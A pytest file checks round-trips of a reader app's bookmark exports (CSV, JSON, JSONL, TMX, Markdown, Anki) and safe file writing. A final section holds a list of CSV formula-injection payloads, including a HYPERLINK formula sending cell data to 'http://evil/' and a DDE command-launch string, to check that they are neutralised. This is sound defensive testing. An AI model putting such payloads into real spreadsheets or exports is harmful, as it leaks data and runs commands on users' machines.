"""Every export format read back: CSV, JSON, JSONL, TMX (translate-toolkit and an XML parser),
Markdown and Anki; markup-like, quoted, tabbed and multi-line text survives each one."""

from __future__ import annotations

import csv
import errno
import html
import io
import json
import os
import re
import stat
import subprocess
import sys
import xml.etree.ElementTree as ET
from dataclasses import replace
from pathlib import Path

import pytest
from conftest import REPO, sample_document

from reader.bookmarks import Bookmark, BookmarkStore
from reader.corpus import write_document
from reader.errors import PathTaken, UserError
from reader.export import FORMATS, render, write_export

NOTE = 'Says "[Reuters]" & <b>bold</b>,\tthen a tab\nand a second line [/b] \\'


@pytest.fixture
def bookmarks(reader_home: Path) -> list[Bookmark]:
    store = BookmarkStore()
    doc = sample_document()
    store.add(doc, "p3s1", note=NOTE, tags=["court", "南宁"])
    store.add(doc, "p2s2")
    return store.list()


def test_csv_round_trip_with_and_without_bom(bookmarks: list[Bookmark]) -> None:
    for bom in (False, True):
        data = render(bookmarks, "csv", bom=bom)
        assert data.startswith(b"\xef\xbb\xbf") == bom
        rows = list(csv.DictReader(io.StringIO(data.decode("utf-8-sig"))))
        assert len(rows) == 2
        assert rows[0]["note"] == NOTE
        assert rows[0]["en"] == "[Reuters] reported [/b] that the two sides signed a memorandum [RED] path\\"
        assert rows[0]["zh"] == bookmarks[0].texts["zh"] and rows[0]["tags"] == "court 南宁"
        assert rows[1]["unit"] == "p2s2"
        for row, b in zip(rows, bookmarks, strict=True):
            assert [row[lang] for lang in ("zh", "vi", "en")] == [
                b.texts[lang] for lang in ("zh", "vi", "en")
            ]
            assert (row["id"], row["doc"], row["title"], row["url"], row["created"], row["updated"]) == (
                str(b.id),
                b.doc_id,
                b.title,
                b.url,
                b.created,
                b.updated,
            )


def test_json_and_jsonl_are_lossless(bookmarks: list[Bookmark]) -> None:
    whole = json.loads(render(bookmarks, "json"))
    lines = [json.loads(line) for line in render(bookmarks, "jsonl").decode().splitlines()]
    assert whole == lines == [b.to_dict() for b in bookmarks]
    assert whole[0]["note"] == NOTE and whole[0]["text"]["vi"].endswith("đường dẫn\\")
    names = {"doc": "doc_id", "unit": "unit_id", "text": "texts", "title": "titles"}
    rebuilt = [
        Bookmark(**{names.get(k, k): v for k, v in d.items()} | {"tags": tuple(d["tags"])}) for d in lines
    ]
    assert rebuilt == bookmarks  # every field of the store comes back
    assert set(whole[0]) >= {
        "doc",
        "unit",
        "text",
        "title",
        "source",
        "date",
        "url",
        "note",
        "tags",
        "created",
        "updated",
    }


def test_tmx_is_valid_and_opens_in_a_real_tmx_reader(bookmarks: list[Bookmark], tmp_path: Path) -> None:
    data = render(bookmarks, "tmx")
    root = ET.fromstring(data)
    header = root.find("header")
    assert root.get("version") == "1.4"
    for attribute in (
        "creationtool",
        "creationtoolversion",
        "segtype",
        "o-tmf",
        "adminlang",
        "srclang",
        "datatype",
    ):
        assert header.get(attribute), attribute
    tus = root.findall("body/tu")
    assert len(tus) == 2
    assert tus[0].find("note").text == NOTE
    langs = {
        tuv.get("{http://www.w3.org/XML/1998/namespace}lang"): tuv.find("seg").text
        for tuv in tus[0].findall("tuv")
    }
    assert langs["en-US"] == bookmarks[0].texts["en"] and langs["zh-CN"] == bookmarks[0].texts["zh"]
    from translate.storage import tmx

    path = tmp_path / "out.tmx"
    path.write_bytes(data)
    store = tmx.tmxfile.parsefile(str(path))
    units = [u for u in store.units if not u.isheader()]
    assert len(units) == 2
    # translate-toolkit reads the first <tuv> as source and the second as target.
    assert units[0].source == bookmarks[0].texts["zh"]
    assert units[0].target == bookmarks[0].texts["en"]
    assert NOTE in units[0].getnotes()
    carriage = replace(bookmarks[0], note="line\r\nnext\rlast")
    assert ET.fromstring(render([carriage], "tmx")).find("body/tu/note").text == carriage.note


def _markdown_blocks(text: str) -> list[tuple[str, str]]:
    """(block kind, literal text) for every heading, paragraph and quote a CommonMark reader
    shows; fails on any link, emphasis or HTML produced from document text or notes."""
    from markdown_it import MarkdownIt

    blocks, kind = [], ""
    for token in MarkdownIt("commonmark").parse(text):
        if token.type in ("heading_open", "blockquote_open"):
            kind = token.type.split("_")[0]
        elif token.type == "blockquote_close":
            kind = ""
        elif token.type == "inline":
            parts = []
            for child in token.children or []:
                if child.type in ("text", "text_special"):
                    parts.append(child.content)
                elif child.type in ("softbreak", "hardbreak"):
                    parts.append("\n")
                else:
                    parts.append(f"<{child.type}>")
            blocks.append((kind or "paragraph", "".join(parts)))
            if kind == "heading":
                kind = ""
    return blocks


def test_markdown_reads_back_literally(bookmarks: list[Bookmark]) -> None:
    tricky = Bookmark(
        id=9,
        doc_id="d",
        unit_id="p1s1",
        original_language="en",
        texts={"en": "- not a list\n1. not a list\n    not code\n# not a heading\n&amp; `x` *y* _z_  "},
        titles={"en": "[Court] *visit* <i> #"},
        note="\ta tab first\n> not a quote",
    )
    blocks = _markdown_blocks(render([*bookmarks, tricky], "md").decode())
    quotes = [text for kind, text in blocks if kind == "blockquote"]
    headings = [text for kind, text in blocks if kind == "heading"]
    for b in bookmarks:
        for lang in b.languages:
            assert b.texts[lang] in quotes, lang
    assert NOTE in quotes
    assert tricky.texts["en"] in quotes and tricky.note in quotes
    assert "越南最高人民法院代表团访问广西 · p3s1" in headings
    assert "[Court] *visit* <i> # · p1s1" in headings
    assert ("paragraph", "<em_open>Test Source, 2024-06-12, https://example.org/a<em_close>") in blocks
    for text in [*quotes, *headings]:
        assert not any(markup in text for markup in ("_open>", "<html_inline>", "<code_inline>"))
    assert ("paragraph", "Tags: <code_inline> <code_inline>") in blocks


def test_anki_file_reads_back_field_by_field(bookmarks: list[Bookmark]) -> None:
    lines = render(bookmarks, "anki").decode().split("\n")
    assert lines[:3] == ["#separator:tab", "#html:true", "#tags column:3"] and lines[-1] == ""
    cards = [line.split("\t") for line in lines[3:-1]]
    assert len(cards) == 2 and all(len(card) == 3 for card in cards)

    def text_of(field: str) -> list[str]:  # what Anki shows, one entry per <br>-separated line
        return [html.unescape(re.sub(r"</?(small|i)>", "", part)) for part in field.split("<br>")]

    front, back, tags = cards[0]
    assert not front.startswith('"') and text_of(front) == [bookmarks[0].texts["zh"]]
    shown = text_of(back)
    assert f"English: {bookmarks[0].texts['en']}" in shown
    assert f"Tiếng Việt: {bookmarks[0].texts['vi']}" in shown
    assert "\n".join(shown[-2:]) == NOTE  # the note, tab and line break included
    assert any("Test Source, 2024-06-12, https://example.org/a" in line for line in shown)
    assert "&lt;b&gt;bold&lt;/b&gt;" in back  # the note's markup-like text is never HTML
    assert tags.split(" ") == ["court", "南宁"] and cards[1][2] == ""


def test_write_export_refuses_to_overwrite_and_reports_bad_paths(
    bookmarks: list[Bookmark], tmp_path: Path
) -> None:
    target = tmp_path / "out.md"
    write_export(bookmarks, "md", target)
    first = target.read_bytes()
    with pytest.raises(UserError, match="already exists"):
        write_export(bookmarks, "csv", target)
    assert target.read_bytes() == first
    write_export(bookmarks, "csv", target, force=True)
    assert target.read_bytes() != first
    with pytest.raises(UserError, match="no such directory"):
        write_export(bookmarks, "md", tmp_path / "missing" / "x.md")
    with pytest.raises(UserError, match="unknown export format"):
        write_export(bookmarks, "pdf", tmp_path / "x.pdf")
    assert sorted(FORMATS) == ["anki", "csv", "json", "jsonl", "md", "tmx"]


def test_cli_export_to_stdout_and_file(reader_home: Path, tmp_path: Path) -> None:
    write_document(sample_document(), reader_home / "data" / "corpus")
    env = {**os.environ, "READER_HOME": str(reader_home)}

    def run(*args: str) -> subprocess.CompletedProcess[bytes]:
        return subprocess.run(
            [sys.executable, "-m", "reader", "bookmarks", *args],
            capture_output=True,
            env=env,
            cwd=REPO,
            timeout=120,
        )

    assert run("add", "sample-court-visit", "p1s1", "--note", NOTE).returncode == 0
    out = run("export", "--format", "jsonl")
    assert out.returncode == 0 and json.loads(out.stdout)["note"] == NOTE
    target = tmp_path / "b.tmx"
    assert run("export", "--format", "tmx", "-o", str(target)).returncode == 0
    again = run("export", "--format", "tmx", "-o", str(target))
    assert again.returncode == 2 and b"already exists (use --force to overwrite)" in again.stderr
    assert run("export", "--format", "tmx", "-o", str(target), "--force").returncode == 0


def test_cli_export_errors_are_one_line_and_change_nothing(reader_home: Path, tmp_path: Path) -> None:
    env = {**os.environ, "READER_HOME": str(reader_home)}

    def run(*args: str) -> subprocess.CompletedProcess[str]:
        return subprocess.run(
            [sys.executable, "-m", "reader", "bookmarks", "export", *args],
            capture_output=True,
            text=True,
            env=env,
            cwd=REPO,
            timeout=120,
        )

    out = tmp_path / "out"
    out.mkdir()
    unknown = run("--format", "docx", "-o", str(out / "x.docx"))
    assert unknown.returncode == 2 and "unknown export format 'docx'" in unknown.stderr
    assert not (reader_home / "data").exists()
    blocker = out / "a-file"
    blocker.write_text("keep")
    cases = [(blocker / "out.csv", "no such directory"), (out, "is a directory")]
    if Path("/proc/self").is_dir():  # Linux: a directory nobody can create files in, even root
        cases.append((Path("/proc/reader-export-test.csv"), "writing the export"))
    for target, needle in cases:
        result = run("--format", "csv", "-o", str(target))
        assert result.returncode == 2 and needle in result.stderr, result.stderr
        assert len(result.stderr.strip().splitlines()) == 1 and "Traceback" not in result.stderr
    assert blocker.read_text() == "keep" and [p.name for p in out.iterdir()] == ["a-file"]


def test_an_empty_or_mixed_export_is_still_valid(bookmarks: list[Bookmark], tmp_path: Path) -> None:
    assert json.loads(render([], "json")) == [] and render([], "jsonl") == b""
    assert next(csv.reader(io.StringIO(render([], "csv").decode())))[:3] == ["id", "doc", "unit"]
    vi_original = replace(bookmarks[1], id=3, original_language="vi")
    for items in ([], [bookmarks[0], vi_original]):
        data = render(items, "tmx")
        root = ET.fromstring(data)
        assert root.find("header").get("srclang") == "*all*" and len(root.findall("body/tu")) == len(items)
        from translate.storage import tmx

        path = tmp_path / f"{len(items)}.tmx"
        path.write_bytes(data)
        units = [u for u in tmx.tmxfile.parsefile(str(path)).units if not u.isheader()]
        assert [u.source for u in units] == [b.texts[b.original_language] for b in items]


def test_force_replaces_a_regular_file_only(bookmarks: list[Bookmark], tmp_path: Path) -> None:
    """A symlink (even a dangling one), a folder or a FIFO is refused with or without force:
    nothing is written through a link to somewhere else, nothing is replaced."""
    real = tmp_path / "real.csv"
    real.write_text("keep")
    link = tmp_path / "link.csv"
    link.symlink_to(real)
    dangling = tmp_path / "dangling.csv"
    dangling.symlink_to(tmp_path / "elsewhere.csv")
    folder = tmp_path / "folder.csv"
    folder.mkdir()
    fifo = tmp_path / "fifo.csv"
    os.mkfifo(fifo)
    for path, kind in (
        (link, "symbolic link"),
        (dangling, "symbolic link"),
        (folder, "directory"),
        (fifo, "FIFO"),
    ):
        for force in (False, True):
            with pytest.raises(PathTaken, match=f"is a {kind}; only a regular file") as caught:
                write_export(bookmarks, "csv", path, force=force)
            assert not caught.value.replaceable and "--force" not in str(caught.value)
    assert link.is_symlink() and real.read_text() == "keep" and dangling.is_symlink()
    assert not (tmp_path / "elsewhere.csv").exists() and folder.is_dir()
    assert stat.S_ISFIFO(os.lstat(fifo).st_mode) and list(folder.iterdir()) == []
    assert sorted(p.name for p in tmp_path.iterdir() if p.name.endswith(".tmp")) == []


def test_exports_get_the_users_mode(bookmarks: list[Bookmark], tmp_path: Path) -> None:
    old = os.umask(0o022)
    try:
        target = tmp_path / "out.json"
        write_export(bookmarks, "json", target)
        assert stat.S_IMODE(target.stat().st_mode) == 0o644
    finally:
        os.umask(old)


def test_a_full_or_read_only_disk_is_one_sentence_and_changes_nothing(
    bookmarks: list[Bookmark], tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    folder = tmp_path / "exports"
    folder.mkdir()
    target = folder / "out.csv"
    target.write_text("old")

    def fail(code: int):
        def raise_(*args: object) -> None:
            raise OSError(code, os.strerror(code))

        return raise_

    monkeypatch.setattr(os, "write", fail(errno.ENOSPC))
    with pytest.raises(UserError, match=r"writing the export \(.*out.csv\) failed: the disk is full"):
        write_export(bookmarks, "csv", target, force=True)
    monkeypatch.setattr(os, "write", fail(errno.EROFS))
    with pytest.raises(UserError, match="read-only"):
        write_export(bookmarks, "csv", folder / "new.csv")
    monkeypatch.undo()
    assert target.read_text() == "old" and sorted(p.name for p in folder.iterdir()) == ["out.csv"]


def test_cli_refuses_a_device_even_with_force(reader_home: Path, tmp_path: Path) -> None:
    device = tmp_path / "null"
    try:
        os.mknod(device, stat.S_IFCHR | 0o666, os.makedev(1, 3))
    except PermissionError:
        pytest.skip("creating a device node needs root (CAP_MKNOD)")
    result = subprocess.run(
        [
            sys.executable,
            "-m",
            "reader",
            "bookmarks",
            "export",
            "--format",
            "csv",
            "-o",
            str(device),
            "--force",
        ],
        capture_output=True,
        text=True,
        env={**os.environ, "READER_HOME": str(reader_home)},
        cwd=REPO,
        timeout=120,
    )
    assert result.returncode == 2 and "is a device; only a regular file" in result.stderr
    assert "--force" not in result.stderr and len(result.stderr.splitlines()) == 1
    assert stat.S_ISCHR(os.lstat(device).st_mode)


ATTACKS = [
    '=HYPERLINK("http://evil/?"&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "  =1+1",
    "\uff1d1+1",
    "\uff20SUM(A1)",
]


def test_csv_cells_that_start_like_a_formula_are_neutralised(bookmarks: list[Bookmark]) -> None:
    for attack in ATTACKS:
        hostile = replace(bookmarks[0], note=attack, tags=("=1+1",), titles={"zh": attack})
        hostile.texts = {**hostile.texts, "en": attack}
        row = next(csv.DictReader(io.StringIO(render([hostile], "csv").decode())))
        assert row["note"] == row["en"] == row["title"] == "'" + attack, attack
        assert row["tags"] == "'=1+1"
        raw = next(csv.DictReader(io.StringIO(render([hostile], "csv", raw=True).decode())))
        assert raw["note"] == raw["en"] == attack and raw["tags"] == "=1+1"
        # the formats meant to be read back by programs stay exact
        assert json.loads(render([hostile], "json"))[0]["note"] == attack
        if "\r" not in attack:
            assert ET.fromstring(render([hostile], "tmx")).find("body/tu/note").text == attack
    harmless = next(csv.DictReader(io.StringIO(render(bookmarks, "csv").decode())))
    assert harmless["note"] == NOTE and harmless["id"] == str(bookmarks[0].id)


def test_cli_csv_export_neutralises_by_default_and_raw_on_request(reader_home: Path) -> None:
    write_document(sample_document(), reader_home / "data" / "corpus")
    env = {**os.environ, "READER_HOME": str(reader_home)}

    def run(*args: str) -> subprocess.CompletedProcess[str]:
        return subprocess.run(
            [sys.executable, "-m", "reader", "bookmarks", *args],
            capture_output=True,
            text=True,
            env=env,
            cwd=REPO,
            timeout=120,
        )

    assert run("add", "sample-court-visit", "p1s1", "--note", ATTACKS[0], "--tag", "=1+1").returncode == 0
    safe = next(csv.DictReader(io.StringIO(run("export", "--format", "csv").stdout)))
    raw = next(csv.DictReader(io.StringIO(run("export", "--format", "csv", "--raw-csv").stdout)))
    assert (safe["note"], safe["tags"]) == ("'" + ATTACKS[0], "'=1+1")
    assert (raw["note"], raw["tags"]) == (ATTACKS[0], "=1+1")
